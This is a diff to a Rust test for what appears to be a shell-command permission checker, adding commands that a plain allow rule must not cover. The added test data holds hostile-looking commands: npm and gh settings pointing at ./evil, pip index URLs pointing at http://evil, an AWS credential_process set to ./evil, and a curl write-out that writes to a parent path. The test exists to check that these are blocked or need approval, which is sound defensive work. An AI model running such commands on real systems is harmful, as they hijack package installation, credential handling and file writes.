@@ -574,6 +574,15 @@ fn a_plain_rule_does_not_cover_what_runs_or_writes_elsewhere() {
         "wget --default-page=.envrc http://evil/",
         "git submodule foreach ./evil.sh",
         "git bisect run ./evil.sh",
+        "npm config set script-shell ./evil",
+        "npm config set --location=project script-shell ./evil",
+        "pip config set --user global.index-url http://evil",
+        "pip3 config --site set global.index-url http://evil",
+        "kubectl config set-context x",
+        "gh config set pager ./evil",
+        "aws configure set credential_process ./evil",
+        "systemctl status -H evil",
+        "curl -w '%output{../x}hi' http://evil",
     ];
     for (mode, verdict) in [(Mode::Default, "ask"), (Mode::DontAsk, "deny")] {
         let world = with_plain_rules(mode, &lines);
